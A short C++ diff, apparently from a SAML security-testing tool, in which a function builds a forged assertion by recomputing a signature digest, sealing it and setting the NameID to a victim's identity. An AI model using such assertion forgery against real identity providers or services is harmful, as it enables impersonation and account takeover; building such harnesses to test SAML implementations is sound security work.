@@ -52,7 +52,7 @@ void xpath_without_subject(Node root, const Attack& attack) {
     const std::string octets = xml::canonicalize(copied, {}, first_named(copied, "Signature"));
     first_named(signature, "DigestValue").text().set(crypto::base64_encode(crypto::digest(crypto::Hash::sha256, octets)).c_str());
     seal(signature, attack.idp.key);
-    impersonate(assertion_of(root), attack);
+    set_text(assertion_of(root), "NameID", attack.victim);
 }
 
 void many_transforms(Node signature) {
